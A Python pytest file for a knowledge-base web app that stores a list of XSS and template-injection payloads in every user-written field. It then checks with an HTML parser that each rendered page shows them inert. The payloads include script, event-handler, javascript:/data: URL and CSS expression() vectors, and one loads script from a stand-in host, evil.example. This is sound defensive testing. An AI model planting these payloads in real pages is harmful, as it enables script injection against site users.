"""Known XSS payloads in every user-controlled text field that a page shows, then every page that shows them.

Each payload goes into a card's title, answer, internal notes and tags (and a second revision for the diff),
its collection's name and description, its team's name, a user's name, a flag comment, a verification note,
an onboarding path's name, description and section title, a check question's prompt, choices and
explanation, a push message, a synonym set, and search queries (agents' search, the FAQ's, the gaps report).
The pages are parsed with html.parser: no script element but kb's own, no on*= attribute, no javascript:,
vbscript: or data: URL in a link or source, no CSS expression(), and template syntax shown, not evaluated.
"""
import json
from datetime import timedelta
from html.parser import HTMLParser

import pytest

from kb.dates import utcnow
from kb.extensions import db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![i](x\" onerror=\"alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div style="width: expression(alert(1))">x</div>',
    '<body onload=alert(1)>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "{{7*7}}",
    '{{ "k"*3 ~ "EVAL" }}{% raw %}',
    "${7*7}#{7*7}<%= 7*7 %>",
]
# Template syntax evaluated would print these (49 alone is too common in a page to tell).
EVALUATED = {'{{ "k"*3 ~ "EVAL" }}{% raw %}': "kkkEVAL"}
OWN_SCRIPTS = ("/static/kb.js",)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "data"}


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.in_ld_json, self.ld_json = [], False, []

    def handle_starttag(self, tag, attrs):
        attrs = [(k.lower(), v or "") for k, v in attrs]
        values = dict(attrs)
        if tag == "script":
            if values.get("type") == "application/ld+json":
                self.in_ld_json = True
                self.ld_json.append("")
            elif values.get("src", "").split("?")[0] not in OWN_SCRIPTS:
                self.problems.append(f"foreign <script {values}>")
        if tag in ("iframe", "object", "embed", "base"):
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            squeezed = "".join(ch for ch in value if ch > " ").lower()
            if (tag, squeezed) == ("link", "data:,"):  # the FAQ's own empty favicon
                continue
            if name in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "vbscript:", "data:")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and "expression(" in squeezed:
                self.problems.append(f"<{tag} style={value!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_ld_json = False

    def handle_data(self, data):
        if self.in_ld_json:
            self.ld_json[-1] += data


def inspect(html):
    parser = Inspector()
    parser.feed(html)
    parser.close()
    problems = list(parser.problems)
    for block in parser.ld_json:
        try:
            json.loads(block)
        except ValueError:
            problems.append(f"JSON-LD broken out of: {block[:80]!r}")
    return problems


@pytest.fixture
def hostile(app, world, make_user):
    """A knowledge base whose every user-written text is a payload: one team, collection, card... each."""
    from kb.accounts import operations as accounts
    from kb.cards import operations as cards
    from kb.models import Card, Team, User
    from kb.onboarding import paths, pushes, questions
    from kb.search import synonyms
    from kb.validation import Invalid
    from kb.verification import flags

    made = {"cards": [], "teams": [], "users": [], "collections": [], "paths": [], "pushes": []}
    refused = []
    lead = make_user("admin", email="xss-lead@example.com")
    hire = make_user("agent", email="xss-hire@example.com")

    def attempt(what, make):
        try:
            with db.session.begin_nested():
                return make()
        except Invalid:  # refusing the text is as safe as escaping it
            refused.append(what)
            return None

    with app.app_context():
        admin, agent = db.session.get(User, lead.id), db.session.get(User, hire.id)
        for n, payload in enumerate(PAYLOADS):
            team = attempt("team", lambda: accounts.create_team(name=f"{payload} T{n}", description=payload))
            team = team or accounts.create_team(name=f"Team X{n}")
            accounts.set_membership(team, agent, actor=None)
            attempt("user", lambda: made["users"].append(accounts.create_user(
                email=f"x{n}@example.com", name=f"{payload} U{n}", role="expert", password="correct-horse-1",
                teams=[team]).id))
            coll = attempt("collection", lambda: cards.create_collection(
                name=f"{payload} C{n}", slug=f"xss-{n}", team=team, description=payload, is_public=True))
            coll = coll or cards.create_collection(name=f"Collection X{n}", slug=f"xss-{n}", team=team, is_public=True)
            fields = dict(title=f"{payload} Q{n}?", answer=f"{payload}\n\nSee {payload} and [x](javascript:alert(1)).",
                          internal_notes=payload, tags=[payload[:40], f"tag{n}"])
            card = attempt("card", lambda: cards.create_card(collection=coll, owner=admin, verifier_team=team,
                                                             author=admin, **fields))
            card = card or cards.create_card(collection=coll, owner=admin, verifier_team=team, author=admin,
                                             title=f"Question X{n}?", answer=payload)
            attempt("edit", lambda: cards.edit_card(card, author=admin, answer=f"{payload} (edited) {payload}",
                                                    internal_notes=f"{payload}!"))
            attempt("verification", lambda: cards.verify_card(card, admin, note=payload,
                                                              at=utcnow() - timedelta(minutes=5)))
            attempt("flag", lambda: flags.flag_card(card, agent, "unclear", payload))
            attempt("question", lambda: questions.add(card, prompt=payload, choices=[payload, "no"], correct=0,
                                                      explanation=payload, actor=admin))
            path = attempt("path", lambda: paths.create_path(name=f"{payload} P{n}", team=team, actor=admin,
                                                             description=payload, sections=[payload]))
            path = path or paths.create_path(name=f"Path X{n}", team=team, actor=admin, sections=["Day 1"])
            attempt("path card", lambda: paths.add_card(path, path.sections[0], card, admin))
            attempt("section", lambda: paths.add_section(path, f"{payload} S", admin))
            attempt("assign", lambda: paths.assign(path, actor=admin, team=team, due_days=5))
            push = attempt("push", lambda: pushes.push(card, [team], due_hours=24, actor=admin, message=payload))
            attempt("synonyms", lambda: synonyms.add_set(f"{payload}, refund{n}", admin))
            db.session.commit()
            made["cards"].append(card.id)
            made["teams"].append(team.id)
            made["collections"].append(coll.slug)
            made["paths"].append(path.id)
            if push is not None:
                made["pushes"].append(push.id)
        assert db.session.scalar(db.select(db.func.count()).select_from(Card)) >= len(PAYLOADS)
        assert db.session.scalar(db.select(db.func.count()).select_from(Team)) >= len(PAYLOADS)
    # The payloads were stored, not refused (bar a few the fields' own rules refuse): the pages show them.
    assert len(refused) <= 5, refused
    return dict(world, made=made, lead=lead, hire=hire)


def _pages(made):
    pages = ["/", "/search/gaps", "/verification/queue", "/verification/dashboard", "/admin/users", "/admin/teams",
             "/admin/collections", "/admin/synonyms", "/admin/audit", "/onboarding/paths", "/notifications", "/faq/"]
    for card_id in made["cards"]:
        pages += [f"/cards/{card_id}", f"/cards/{card_id}/history", f"/cards/{card_id}/diff?from=1&to=2",
                  f"/cards/{card_id}/revisions/1", f"/faq/cards/{card_id}", f"/onboarding/cards/{card_id}/questions"]
    pages += [f"/admin/teams/{t}" for t in made["teams"]] + [f"/admin/users/{u}" for u in made["users"]]
    pages += [f"/collections/{s}" for s in made["collections"]] + [f"/faq/{s}" for s in made["collections"]]
    for path_id, card_id in zip(made["paths"], made["cards"], strict=True):
        pages += [f"/onboarding/paths/{path_id}", f"/onboarding/paths/{path_id}/report",
                  f"/onboarding/paths/{path_id}/cards/{card_id}"]
    pages += [f"/onboarding/pushes/{p}" for p in made["pushes"]]
    return pages


def _check(client, url, typed=()):
    response = client.get(url, follow_redirects=True)
    assert response.status_code < 500, url
    if not response.content_type.startswith("text/html"):
        return response
    html = response.get_data(as_text=True)
    problems = inspect(html)
    assert not problems, f"{url}: {problems}"
    for payload in typed:
        if payload in EVALUATED:
            assert EVALUATED[payload] not in html, f"{url}: {payload} was evaluated"
    return response


def test_the_inspector_sees_each_kind_of_injection():
    for html in ('<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<a href=" javascript:x">',
                 '<div style="x: expression(1)">', '<script type="application/ld+json">{"a": "</script>',
                 '<iframe src=x>'):
        assert inspect(html), html
    assert not inspect('<script src="/static/kb.js" defer></script><a href="/cards/1">&lt;script&gt;</a>')


def test_payloads_in_every_field_render_inert(app, hostile, auth, client):
    auth.login(hostile["lead"].email)
    pages = _pages(hostile["made"])
    for url in pages:
        _check(client, url, PAYLOADS)
    # Template syntax typed in a title is shown as typed.
    card_page = client.get(f"/cards/{hostile['made']['cards'][PAYLOADS.index('{{7*7}}')]}").get_data(as_text=True)
    assert "{{7*7}} Q" in card_page
    assert len(pages) > 8 * len(PAYLOADS)


def test_payloads_as_search_queries_render_inert(app, hostile, auth, client):
    auth.login(hostile["lead"].email)
    for payload in PAYLOADS:
        _check(client, "/search?" + _query(payload), [payload])
        _check(client, "/faq/?" + _query(payload), [payload])
        assert client.get("/api/v1/search?" + _query(payload)).status_code < 500
    # The gaps report lists the queries that found nothing: payloads among them.
    _check(client, "/search/gaps", PAYLOADS)
    auth.logout()
    for payload in PAYLOADS:
        _check(client, "/faq/?" + _query(payload), [payload])


def test_payloads_on_the_hires_pages_render_inert(app, hostile, auth, client):
    auth.login(hostile["hire"].email)
    for url in ["/onboarding/", "/notifications", "/"] + [f"/onboarding/pushes/{p}" for p in hostile["made"]["pushes"]]:
        _check(client, url, PAYLOADS)


def _query(text):
    from urllib.parse import urlencode

    return urlencode({"q": text})
